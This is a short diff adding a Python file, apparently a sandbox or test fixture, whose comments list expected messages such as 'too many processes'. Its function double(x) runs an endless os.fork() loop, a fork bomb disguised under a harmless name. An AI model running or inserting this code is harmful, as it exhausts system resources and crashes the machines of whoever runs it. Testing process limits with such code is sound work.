@@ -1,0 +1,11 @@
+# says: started another process
+# says: not allowed to do that
+# says: too many processes
+# says: still running
+# says: unavailable
+import os
+
+
+def double(x):
+    while True:
+        os.fork()
